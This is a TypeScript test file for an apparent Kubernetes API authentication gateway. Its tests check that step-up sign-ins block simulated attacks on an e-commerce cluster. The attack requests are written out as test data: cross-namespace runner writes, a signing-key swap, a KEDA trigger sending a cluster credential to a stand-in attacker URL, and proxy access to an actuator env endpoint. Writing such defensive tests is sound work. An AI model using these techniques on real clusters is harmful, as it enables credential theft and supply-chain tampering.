import { describe, expect, it } from 'vitest';
import { reasonOf } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import { findingRequests, rules } from '../support/findings.js';
import type { Login } from '../support/workday.js';
import { API, exfilScaledObject, KUBECTL, LENS, scaledObject, SITE, TAILNET, WAR_ROOM_PC } from '../support/workday22.js';

/**
 * What the twenty-second replayed day (test/support/workday22.ts, docs/risk.md "Day 22") found,
 * through the real gRPC server running examples/stepgate.yaml on a virtual clock: an e-commerce
 * company's Black Friday on a tailnet (each device one stable 100.64.0.0/10 address), Windows
 * laptops with Lens and WSL2, actions-runner-controller's self-hosted runners, KEDA, and a war
 * room. Each test is one engineer's (or runner's) two days of routine, then the finding, from
 * their own device with their morning sign-in hours old. The open ones are `it.fails`.
 */

const s = exampleServiceForFile();
/** The warm-up Thursday and Black Friday, 08:00 UTC. */
const [THU, FRI] = [26, 27].map((d) => Date.UTC(2026, 10, d, 8, 0, 0)) as [number, number];
const [H, M] = [3_600_000, 60_000];
const MERGE = 'application/merge-patch+json';
const SMP = 'application/strategic-merge-patch+json';

const { send, twoDays } = findingRequests(s, { host: API, source: TAILNET(7), ua: KUBECTL('linux/amd64'), firstDay: THU, secondDay: FRI });
/** The site's copy (workday22.ts `SITE`): the example with prod-secret-updates switched from shadow to enforce. */
const enforced = findingRequests(exampleServiceForFile({ edit: SITE }), { host: API, source: TAILNET(7), ua: KUBECTL('linux/amd64'), firstDay: THU, secondDay: FRI });

const runner = (repo: string): Login => ({ sub: `system:serviceaccount:arc-runners:${repo}-runner`, sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true });
const setImage = (container: string, image: string) => JSON.stringify({ spec: { template: { spec: { containers: [{ name: container, image }] } } } });
const RUNNER_UA = KUBECTL('linux/amd64', 'v1.31.2', '5864a46');

/** A runner's deploys to its own repository's staging namespace, every 20 minutes for two mornings. */
async function runnerDays(repo: string, ns: string): Promise<void> {
  for (const day of [THU, FRI]) {
    for (let j = 0; j < 6; j++) {
      const t = day + j * 20 * M;
      const res = await send(runner(repo), t, 'PATCH', `/apis/apps/v1/namespaces/${ns}/deployments/${repo}-web?fieldManager=kubectl-set`, { body: setImage('web', `ghcr.io/basketry/${repo}-web:sha-${j}`), contentType: SMP, source: `10.42.${j}.${j + 3}`, ua: RUNNER_UA });
      expect(reasonOf(res), rules(res)).toBe('allowed');
    }
  }
}

describe("an e-commerce company's Black Friday on a tailnet, with examples/stepgate.yaml", () => {
  // Open on the example as shipped: the storefront repository's runner token (printed into a
  // public job log) used from another runner pod sets the payments repository's staging
  // Deployment's image. Automation is admitted at the everyday requirement, a Deployment write
  // outside production asks no more, and the working set's signals are for people's sensitive
  // actions. The example cannot know which namespaces a site's runners own.
  it.fails("as shipped, a runner's service account writing another repository's environment is not allowed", async () => {
    await runnerDays('storefront', 'storefront-staging');
    const res = await send(runner('storefront'), FRI + 3 * H, 'PATCH', '/apis/apps/v1/namespaces/payments-staging/deployments/payments-api?fieldManager=kubectl-set', { body: setImage('api', 'ghcr.io/basketry-payments/payments-api:bf-hotfix'), contentType: SMP, source: '10.42.9.77', ua: RUNNER_UA });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // Closed in session 51 by the site's copy: a namespace list per automation identity (a policy
  // rule per runner scale set, workday22.ts RUNNER_NAMESPACES). The same write outside storefront-*
  // asks a human (automation_step_up, no approver here), and so does a cluster-scoped write; the
  // runner's own deploys, and its reads elsewhere, are not touched.
  it("with the runners' namespace lists, a runner's write in another repository's environment is automation_step_up; its own deploys pass", async () => {
    const o = (body?: string) => ({ ...(body === undefined ? {} : { body, contentType: SMP }), source: '10.42.9.77', ua: RUNNER_UA });
    for (const day of [THU, FRI]) {
      for (let j = 0; j < 6; j++) {
        const own = await enforced.send(runner('storefront'), day + j * 20 * M, 'PATCH', `/apis/apps/v1/namespaces/storefront-staging/deployments/storefront-web?fieldManager=kubectl-set`, o(setImage('web', `ghcr.io/basketry/storefront-web:sha-${j}`)));
        expect(reasonOf(own), rules(own)).toBe('allowed');
      }
    }
    const read = await enforced.send(runner('storefront'), FRI + 3 * H, 'GET', '/apis/apps/v1/namespaces/payments-staging/deployments/payments-api', o());
    expect(reasonOf(read), rules(read)).toBe('allowed');
    const res = await enforced.send(runner('storefront'), FRI + 3 * H + 6_000, 'PATCH', '/apis/apps/v1/namespaces/payments-staging/deployments/payments-api?fieldManager=kubectl-set', o(setImage('api', 'ghcr.io/basketry-payments/payments-api:bf-hotfix')));
    expect(reasonOf(res), rules(res)).toBe('automation_step_up');
    expect(rules(res)).toContain('storefront-runner-namespaces');
    // A namespace that only begins with the repository's name (storefrontx) is not in storefront-*.
    const lookalike = await enforced.send(runner('storefront'), FRI + 3 * H + 12_000, 'DELETE', '/api/v1/namespaces/storefrontx/configmaps/x', o());
    expect(reasonOf(lookalike), rules(lookalike)).toBe('automation_step_up');
    // A cluster-scoped write has no namespace of the list: asked too.
    const cluster = await enforced.send(runner('storefront'), FRI + 3 * H + 18_000, 'POST', '/api/v1/namespaces', o(JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'storefront-evil' } })));
    expect(reasonOf(cluster), rules(cluster)).toBe('automation_step_up');
    // The checkout runner's list is its own: its deploy passes, storefront-staging does not.
    const co = await enforced.send(runner('checkout'), FRI + 3 * H, 'PATCH', '/apis/apps/v1/namespaces/checkout-staging/deployments/checkout-web?fieldManager=kubectl-set', o(setImage('web', 'ghcr.io/basketry/checkout-web:sha-1')));
    expect(reasonOf(co), rules(co)).toBe('allowed');
    const cross = await enforced.send(runner('checkout'), FRI + 3 * H + 6_000, 'PATCH', '/apis/apps/v1/namespaces/storefront-staging/deployments/storefront-web?fieldManager=kubectl-set', o(setImage('web', 'ghcr.io/evil/web:1')));
    expect(reasonOf(cross), rules(cross)).toBe('automation_step_up');
  });

  // Measured: a fork's pull request on a self-hosted runner reads the staging Secrets with the
  // runner's service account: a Secret asks two factors, which automation cannot give.
  it("a fork's pull request reading Secrets with the runner's service account is refused (automation_step_up)", async () => {
    await runnerDays('checkout', 'checkout-staging');
    const res = await send(runner('checkout'), FRI + 2 * H, 'GET', '/api/v1/namespaces/checkout-staging/secrets', { source: '10.42.3.140', ua: RUNNER_UA });
    expect(reasonOf(res), rules(res)).toBe('automation_step_up');
  });

  // Measured: a Lens extension on a checkout engineer's laptop, through Lens's proxy with the
  // engineer's session, lists the Secrets of a production namespace the engineer never worked in.
  it("a Lens extension's Secret list outside the engineer's namespaces asks a sign-in made after it", async () => {
    const ua = LENS('Windows NT 10.0; Win64; x64');
    const login = await twoDays('d22f-checkout@basketry.example', [
      ['GET', '/api/v1/namespaces/prod-checkout/pods?limit=500'],
      ['GET', '/api/v1/namespaces/prod-checkout/secrets/checkout-config'],
    ], { ua, source: TAILNET(0) });
    const res = await send(login, FRI + 5 * H, 'GET', '/api/v1/namespaces/prod-catalog/secrets', { ua, source: TAILNET(0) });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
  });

  // Closed in session 49 by the site's copy (workday22.ts `SITE`; open on the example as shipped,
  // which ships prod-secret-updates in shadow mode: enforced, it asked 12 more engineers twice
  // within 8 hours over the replayed days, day 3's engineers rotating production Secrets by hand
  // several times a day; docs/risk.md): malware on the payments engineer's laptop replaces the PSP
  // webhook's signing key 40 minutes after the engineer's own rotation of it (the PSP rotated it
  // under pressure): the same Secret read and patched, from the same laptop, address, client and
  // token, within the `secrets` rule's and prod-writes' 8 hours. Forged "payment captured" webhooks
  // would then verify. Enforced, a production Secret's update asks a sign-in within 15 minutes; the
  // rotation is asked once, answered, and allowed; the swap 40 minutes later with that same token
  // is asked again, which malware cannot answer. Helm's release records, rewritten at every
  // upgrade, are left out by name (unless_names).
  it("with prod-secret-updates enforced, the PSP webhook's signing Secret replaced 40 minutes after the real rotation asks a sign-in; the rotation is asked once; Helm's release records are not", async () => {
    const path = '/api/v1/namespaces/prod-payments/secrets/psp-webhook';
    const src = { source: TAILNET(5), ua: KUBECTL('darwin/arm64') };
    const login = await enforced.twoDays('d22f-payments-b@basketry.example', [
      ['GET', '/api/v1/namespaces/prod-payments/pods?limit=500'],
      ['GET', path],
    ], src);
    const patch = (key: string) => ({ ...src, body: JSON.stringify({ data: { 'signing-key': key } }), contentType: MERGE });
    const rotation = FRI + 2.66 * H;
    const asked = await enforced.send(login, rotation, 'PATCH', `${path}?fieldManager=kubectl-patch`, patch('d2hzZWNfN2JmM2E5YzE0ZTJkOGY2YTBiNWM='));
    expect(reasonOf(asked), rules(asked)).toBe('auth_too_old');
    expect(rules(asked)).toContain('prod-secret-updates');
    const signedIn: Login = { ...login, authTime: Math.floor(rotation / 1000) + 40 };
    const rotated = await enforced.send(signedIn, rotation + M, 'PATCH', `${path}?fieldManager=kubectl-patch`, patch('d2hzZWNfN2JmM2E5YzE0ZTJkOGY2YTBiNWM='));
    expect(reasonOf(rotated), rules(rotated)).toBe('allowed');
    // helm upgrade right after, then hours later: its release records ask nothing more.
    for (const t of [rotation + 3 * M, rotation + 3 * H]) {
      const release = await enforced.send(signedIn, t, 'PUT', '/api/v1/namespaces/prod-payments/secrets/sh.helm.release.v1.payments-api.v41', { ...src, body: JSON.stringify({ apiVersion: 'v1', kind: 'Secret', type: 'helm.sh/release.v1', metadata: { name: 'sh.helm.release.v1.payments-api.v41', namespace: 'prod-payments', labels: { owner: 'helm', name: 'payments-api', status: 'superseded', version: '41' } }, data: { release: 'SDRzSUFBQUFBQUFBLytTOQ==' } }), contentType: 'application/json', ua: 'Helm/3.16.2' });
      expect(rules(release)).not.toContain('prod-secret-updates');
    }
    const res = await enforced.send(signedIn, FRI + 3.33 * H, 'PATCH', `${path}?fieldManager=kubectl-patch`, patch('d2hzZWNfYXR0YWNrZXJfY29udHJvbGxlZA=='));
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('prod-secret-updates');
  });

  // Was allowed (day 22, every seed with the warm-up day): malware on the SRE's laptop patches a
  // ScaledObject in a production namespace where the SRE tunes ScaledObjects every day, adding a
  // metrics-api trigger whose authenticationRef is the platform's ClusterTriggerAuthentication for
  // the PSP's reporting API and whose url is the attacker's: KEDA's operator reads that Secret
  // with its own rights and sends it as a bearer token every polling interval. The request was a
  // ScaledObject patch like the SRE's own (prod-writes, 8 hours). Now the trigger's cluster-wide
  // authentication is keda_cluster_trigger_auth (two factors within 15 minutes); the routine
  // Prometheus trigger, which carries no credential, asks nothing.
  it("a ScaledObject sending a ClusterTriggerAuthentication's credential to a URL it names asks a recent sign-in; the routine one does not", async () => {
    const path = '/apis/keda.sh/v1alpha1/namespaces/prod-catalog/scaledobjects/catalog-api?fieldManager=kubectl-client-side-apply&fieldValidation=Strict';
    const login = await twoDays('d22f-sre@basketry.example', [
      ['GET', '/apis/keda.sh/v1alpha1/namespaces/prod-catalog/scaledobjects/catalog-api'],
      ['PATCH', path, JSON.stringify(scaledObject('prod-catalog', 'catalog-api', 3, 40)), MERGE],
    ]);
    const routine = await send(login, FRI + 4 * H, 'PATCH', path, { body: JSON.stringify(scaledObject('prod-catalog', 'catalog-api', 10, 120)), contentType: MERGE });
    expect(reasonOf(routine), rules(routine)).toBe('allowed');
    const res = await send(login, FRI + 4 * H + M, 'PATCH', path, { body: JSON.stringify(exfilScaledObject('prod-catalog', 'catalog-api', 'https://metrics.basketry-cdn.example/v1/queue')), contentType: MERGE });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('keda_cluster_trigger_auth');
  });

  // Was allowed (day 22, every seed with the warm-up day): the incident commander signed in on the
  // war room's wall-screen PC that morning to show the cluster; someone else in the room uses its
  // kubeconfig for the payments service's admin port through the API server's service proxy
  // (Spring Boot's actuator: the environment, PSP keys included). The IC reads prod-payments all
  // day from that PC; `pod-shell` asks two factors within 8 hours, which the morning's sign-in is.
  // Now the service proxy is a kind of action (`proxy`, unfamiliar_kind in the example) that the
  // IC never used: a sign-in made after it, which the observer cannot give. The IC's own reads go
  // on unasked; once the IC signs in, the proxy is allowed and learned.
  it("the war room's observer using the IC's kubeconfig for a service proxy into payments asks a sign-in made after it", async () => {
    const sub = 'd22f-ic@basketry.example';
    const morning = FRI - 60 * M;
    const pc: Login = { sub, sid: `${sub}:pc`, authTime: Math.floor(morning / 1000), acr: 'urn:stepgate:aal2' };
    const o = { source: WAR_ROOM_PC, ua: KUBECTL('windows/amd64') };
    await twoDays(sub, [['GET', '/api/v1/pods?limit=500'], ['GET', '/api/v1/namespaces/prod-payments/pods?limit=500']], o);
    for (let i = 0; i < 3; i++) {
      const read = await send(pc, FRI + i * H, 'GET', '/api/v1/namespaces/prod-payments/pods?limit=500', o);
      expect(reasonOf(read), rules(read)).toBe('allowed');
    }
    const env = '/api/v1/namespaces/prod-payments/services/http:payments-api:8081/proxy/actuator/env';
    const res = await send(pc, FRI + 6.3 * H, 'GET', env, o);
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    // The same through the encoded spelling kubectl's URL escaping may send.
    const encoded = await send(pc, FRI + 6.31 * H, 'GET', '/api/v1/namespaces/prod-payments/services/http%3Apayments-api%3A8081/proxy/actuator/env', o);
    expect(reasonOf(encoded), rules(encoded)).toBe('auth_too_old');
    const signedIn: Login = { ...pc, authTime: Math.floor((FRI + 6.32 * H) / 1000) };
    const ok = await send(signedIn, FRI + 6.33 * H, 'GET', env, o);
    expect(reasonOf(ok), rules(ok)).toBe('allowed');
  });
});
